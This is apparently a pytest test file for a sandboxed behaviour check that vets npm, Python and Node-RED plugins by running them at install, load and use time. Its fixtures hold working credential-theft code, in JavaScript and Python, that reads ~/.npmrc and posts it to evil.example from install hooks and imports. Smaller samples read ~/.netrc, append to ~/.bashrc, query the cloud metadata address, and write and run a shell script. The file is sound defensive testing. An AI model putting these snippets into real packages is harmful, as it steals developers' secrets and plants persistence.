"""The behaviour check runs plugins for real: what they do at installation, when loaded and when used is told apart."""

import io
import json
import zipfile

import pytest

from governance.vocabulary import CheckStatus, Severity
from plugins.checks.base import Workspace
from plugins.checks.behaviour import BehaviourCheck
from plugins.intake import intake
from plugins.sandbox import SandboxUnavailable
from tests.plugins.checks.engine_cases import CACHE
from tests.support.packages import npm_package, python_source

STEAL = (
    "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');"
    "const r = require('https').request({host: 'evil.example', method: 'POST', path: '/x'});"
    "r.on('error', () => {}); r.end(t);"
)
PY_STEAL = (
    "import os, urllib.request\n"
    "t = open(os.path.expanduser('~/.npmrc')).read()\n"
    "try: urllib.request.urlopen('https://evil.example/x', t.encode(), timeout=3)\n"
    "except OSError: pass\n"
)
NODE_CLASS = """
const axios = require('axios');
class Acme {
    constructor() {
        this.description = {displayName: 'Acme', properties: [
            {name: 'operation', type: 'options', options: [{value: 'get'}, {value: 'send'}], default: 'get'},
        ]};
    }
    async execute() {
        const credentials = await this.getCredentials('acmeApi');
        if (this.getNodeParameter('operation', 0) === 'send') { %s }
        await this.helpers.httpRequest({url: 'https://api.acme.example/v1/' + this.getNodeParameter('operation', 0)});
        await axios.get(credentials.url + '/mine');
        return [[]];
    }
}
module.exports = {Acme};
"""


@pytest.fixture
def behave(tmp_path):
    """Run the check on the bytes of a package."""

    def run(raw, filename="acme-1.0.tgz"):
        artifact = tmp_path / filename
        artifact.write_bytes(raw)
        with intake(artifact, filename=filename, work=tmp_path / "work") as taken:
            scratch = tmp_path / "scratch"
            scratch.mkdir(exist_ok=True)
            space = Workspace(taken.package, artifact, taken.root, scratch, CACHE, taken.unpacked)
            check = BehaviourCheck()
            assert check.applies_to(taken.package)
            return check.run(space)

    return run


def n8n(code, **manifest):
    return npm_package(
        "n8n-nodes-acme",
        files={"dist/Acme.node.js": code.encode()},
        n8n={"n8nNodesApiVersion": 1, "nodes": ["dist/Acme.node.js"]},
        **manifest,
    )


def rules(result):
    return {(finding.rule, finding.severity) for finding in result.findings}


def seen(result, kind):
    return {observation.value for observation in result.observations if observation.kind == kind}


def phases(result):
    return {phase["name"]: phase for phase in result.evidence["phases"]}


def test_a_node_is_loaded_without_its_dependencies_and_used_for_each_operation(behave):
    result = behave(n8n(NODE_CLASS % ""))

    assert (result.status, rules(result)) == (CheckStatus.PASSED, set())
    assert result.reason == "2 of 2 entry points loaded, 1 host asked for."
    assert (seen(result, "host"), seen(result, "capability")) == ({"api.acme.example"}, {"network.outbound"})
    assert all(observation.dynamic for observation in result.observations)
    used = phases(result)["entry-points"]
    assert [line.partition("https")[2] for line in used["requests"] if "acme.example/v1" in line] == [
        "://api.acme.example/v1/get",
        "://api.acme.example/v1/send",
    ]
    assert result.evidence["stand_ins"] == ["axios"]


def test_an_install_hook_that_steals_is_caught_and_told(behave):
    result = behave(npm_package(files={"steal.js": STEAL.encode()}, scripts={"postinstall": "node steal.js"}))

    assert result.status is CheckStatus.FAILED
    assert rules(result) == {
        ("install-calls", Severity.HIGH),
        ("decoy-read", Severity.HIGH),
        ("secret-sent", Severity.CRITICAL),
    }
    assert seen(result, "host") == {"evil.example"}
    assert {"process.install-hook", "secrets.read", "network.outbound"} <= seen(result, "capability")
    (sent,) = [finding for finding in result.findings if finding.rule == "secret-sent"]
    assert "~/.npmrc" in sent.title
    assert "went to evil.example over http (plain)" in sent.detail


def test_the_same_when_loaded_is_told_as_such(behave):
    result = behave(npm_package(files={"index.js": STEAL.encode()}))

    assert rules(result) == {
        ("import-calls", Severity.HIGH),
        ("decoy-read", Severity.HIGH),
        ("secret-sent", Severity.CRITICAL),
    }


def test_what_only_one_operation_does_is_found(behave):
    result = behave(n8n(NODE_CLASS % STEAL))

    assert phases(result)["import"]["decoys"] == []
    assert {rule for rule, _ in rules(result)} == {"decoy-read", "secret-sent"}


@pytest.mark.parametrize(
    ("files", "phase"),
    [({"setup.py": PY_STEAL.encode()}, "install"), ({"acme.py": PY_STEAL.encode()}, "import")],
)
def test_python_is_run_too_at_installation_and_when_imported(behave, files, phase):
    result = behave(python_source(files=files))

    assert (f"{phase}-calls", Severity.HIGH) in rules(result)
    assert ("secret-sent", Severity.CRITICAL) in rules(result)
    assert phases(result)[phase]["sent"]


def test_a_line_of_a_pth_file_is_run_as_at_every_start(behave):
    wheel = io.BytesIO()
    line = "import os, urllib.request; open(os.path.expanduser('~/.netrc')).read()\n"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in {
            "acme.py": "x = 1\n",
            "acme.pth": line,
            "acme-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n",
            "acme-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            "acme-1.0.dist-info/RECORD": "",
        }.items():
            archive.writestr(name, text)

    result = behave(wheel.getvalue(), "acme-1.0-py3-none-any.whl")

    assert phases(result)["install .pth"]["decoys"][0].endswith("~/.netrc")


def test_a_python_module_is_loaded_without_what_it_needs(behave):
    code = (
        "import requests, netbox.plugins\nfrom django.db import models\nfrom missing.sub import Base, deco\n"
        "@deco\ndef plain(): return requests.get('https://asked.example/x').json()\n"
        "@deco(1)\nclass Thing(Base, models.Model):\n    def save(self): return super().save()\n"
        "assert plain() == {}\n"
    )
    result = behave(python_source(code=code.encode()))

    assert (result.examined, seen(result, "host")) == (1, {"asked.example"})
    assert result.evidence["stand_ins"] == ["django", "missing", "netbox", "requests"]


def test_a_folder_shared_with_the_platform_is_no_obstacle(behave):
    files = {
        "airflow/providers/acme/__init__.py": b"from airflow import __version__\nfrom packaging.version import parse\n",
        "airflow/providers/acme/hook.py": (
            b"import urllib.request\nfrom airflow.hooks.base import BaseHook\n"
            b"class Hook(BaseHook):\n    pass\nurllib.request.urlopen('https://asked.example/')\n"
        ),
        "airflow/providers/acme/broken.py": b"from airflow.providers.acme.gone import x\n",
    }
    result = behave(python_source(files=files))

    assert seen(result, "host") == {"asked.example"}
    assert "3 of 4 entry points loaded" in result.reason


@pytest.mark.parametrize("asking", ["from scripts import payload", "from scripts.deep import payload"])
def test_a_real_module_in_a_folder_without_init_is_run_and_not_made_up(behave, asking):
    """Nothing in `scripts` is an entry point, so only the import runs it."""
    payload = b"import urllib.request\nurllib.request.urlopen('https://asked.example/')\nANSWER = 42\n"
    result = behave(
        python_source(
            code=f"{asking}\nfrom scripts import made_up\nmade_up.Thing()\n".encode(),
            files={"scripts/payload.py": payload, "scripts/deep/payload.py": payload},
        )
    )

    assert seen(result, "host") == {"asked.example"}
    assert result.reason == "1 of 1 entry points loaded, 1 host asked for."


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        ("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", "stays-behind", Severity.CRITICAL),
        ("require('child_process').execSync('true')", "import-starts-programs", Severity.MEDIUM),
        ("require('net').connect(80, '169.254.169.254').on('error', () => {})", "metadata-asked", Severity.CRITICAL),
        (
            "const f = '/tmp/x.sh'; require('fs').writeFileSync(f, '#!/bin/sh\\n', {mode: 0o755});"
            "require('child_process').spawnSync(f)",
            "runs-what-it-wrote",
            Severity.CRITICAL,
        ),
    ],
)
def test_what_no_plugin_should_do_when_loaded_is_a_finding(behave, code, rule, severity):
    assert (rule, severity) in rules(behave(npm_package(files={"index.js": code.encode()})))


def test_who_does_not_let_itself_be_seen_to_the_end_is_no_pass(behave):
    result = behave(npm_package(files={"index.js": b"while (true) {}"}))

    assert result.status is CheckStatus.INCONCLUSIVE
    assert ("runs-out-the-clock", Severity.MEDIUM) in rules(result)
    assert "did not come to its end" in result.reason


def test_who_ends_the_driver_before_it_has_tried_everything_is_no_pass(behave):
    result = behave(n8n(NODE_CLASS % "process.exit(0);"))

    assert result.status is CheckStatus.INCONCLUSIVE
    assert "entry-points was ended by the plugin before everything was tried" in result.reason


def test_a_hook_that_cannot_be_run_here_is_no_pass(behave):
    result = behave(npm_package(files={"binding.gyp": b"{}"}))

    assert result.status is CheckStatus.INCONCLUSIVE
    assert "was not run: binding.gyp" in result.reason


def test_a_package_none_of_whose_code_loads_is_no_pass(behave):
    result = behave(npm_package(files={"index.js": b"throw new Error('not today')"}))

    assert (result.status, result.examined) == (CheckStatus.INCONCLUSIVE, 0)
    assert "None of 1 entry points could be loaded. index.js: not today" in result.reason


def test_who_claims_to_be_loaded_is_watched_all_the_same(behave):
    """The driver's lines can be forged by what shares its process; the record cannot."""
    code = "process.stdout.write('@plugwarden-00 {}'); " + STEAL + "setTimeout(() => process.exit(0), 800)"
    result = behave(npm_package(files={"index.js": code.encode()}))

    assert ("secret-sent", Severity.CRITICAL) in rules(result)


def test_without_an_observer_the_question_stays_open_and_says_what_to_install(behave, monkeypatch):
    def missing(*_args, **_more):
        raise SandboxUnavailable("The program strace is missing. Install it with: apt-get install strace util-linux")

    monkeypatch.setattr("plugins.checks.behaviour.watch", missing)
    result = behave(npm_package())

    assert (result.status, result.examined) == (CheckStatus.INCONCLUSIVE, 0)
    assert "apt-get install strace" in result.reason


def test_modules_of_the_newer_kind_are_loaded_with_stand_ins(behave):
    code = (
        b"import pick, { debounce as d } from 'missing-one';\n"
        b"import axios from 'axios';\nexport default await axios.get('https://esm.example/');\nd(pick);\n"
    )
    result = behave(npm_package(files={"index.mjs": code}, main="index.mjs", type="module"))

    assert (result.examined, seen(result, "host")) == (1, {"esm.example"})


def test_node_red_nodes_are_made_and_sent_a_message(behave):
    code = """
    module.exports = function (RED) {
        function Ask(config) {
            RED.nodes.createNode(this, config);
            this.on('input', (msg, send, done) => {
                require('http').get('http://asked.example/' + msg.payload, () => done());
            });
        }
        RED.nodes.registerType('ask', Ask);
    };
    """
    raw = npm_package(
        "node-red-contrib-ask",
        files={"ask.js": code.encode(), "ask.html": b""},
        **{"node-red": {"nodes": {"ask": "ask.js"}}},
    )
    result = behave(raw)

    assert phases(result)["import"]["hosts"] == []
    assert seen(result, "host") == {"asked.example"}


NODE_RED = """
module.exports = function (RED) {
    %s
    function Act(config) {
        RED.nodes.createNode(this, config);
        const node = this;
        %s
    }
    RED.nodes.registerType('act', Act);
};
"""


@pytest.mark.parametrize(
    ("head", "act", "expected"),
    [
        (
            "const readdirp = require('readdirp');",
            "node.on('input', msg => readdirp({root: config.start}).on('data', entry => node.send(entry)));",
            {"filesystem.read"},
        ),
        (
            "const fs = require('fs-extra');",
            "node.on('input', (msg, send, done) => fs.outputFile(msg.filename + '.out', 'x').then(() => done()));",
            {"filesystem.write"},
        ),
        (
            "const Big = require('node-red-biglib');",
            "const big = new Big({config, node, parser: function (mine) {"
            "  return require('child_process').spawn(mine.command, mine.commandArgs.concat([]), {cwd: mine.cwd}); }});"
            "node.on('input', msg => big.main.call(big, msg));",
            {"process.spawn"},
        ),
        (
            "const execa = require('execa');",
            "node.on('input', async msg => execa('ffmpeg', ['-i', msg.payload]));",
            {"process.spawn"},
        ),
    ],
    ids=["reads a folder", "writes a file", "a function handed to what is not there", "a program that is not there"],
)
def test_what_a_node_does_through_packages_that_are_not_there_is_seen(behave, head, act, expected):
    raw = npm_package(
        "node-red-contrib-act",
        files={"act.js": (NODE_RED % (head, act)).encode(), "act.html": b""},
        **{"node-red": {"nodes": {"act": "act.js"}}},
    )
    result = behave(raw)

    assert phases(result)["import"]["commands"] == []
    assert seen(result, "capability") == expected


def test_the_owners_own_tests_are_run_and_are_no_part_of_what_the_plugin_does(behave):
    declared = {
        "plugin": {"name": "acme-tools", "version": "1.0.0"},
        "test_command": "node test.js",
    }
    files = {
        "test.js": b"require('fs').readFileSync('index.js');"
        b"require('http').get('http://only-tests.example/').on('error', () => {});",
        "plugin-governance.json": json.dumps(declared).encode(),
    }
    result = behave(npm_package(files=files))

    assert phases(result)["tests"]["hosts"] == ["only-tests.example"]
    assert (seen(result, "host"), rules(result)) == (set(), set())


def test_code_for_the_browser_is_said_to_be_only_read(behave):
    result = behave(python_source(files={"web-frontend/plugin.js": b"fetch('/x');\n", "setup.sh": b"echo hi\n"}))

    assert result.reason.endswith("Only read, not run: JavaScript, shell.")
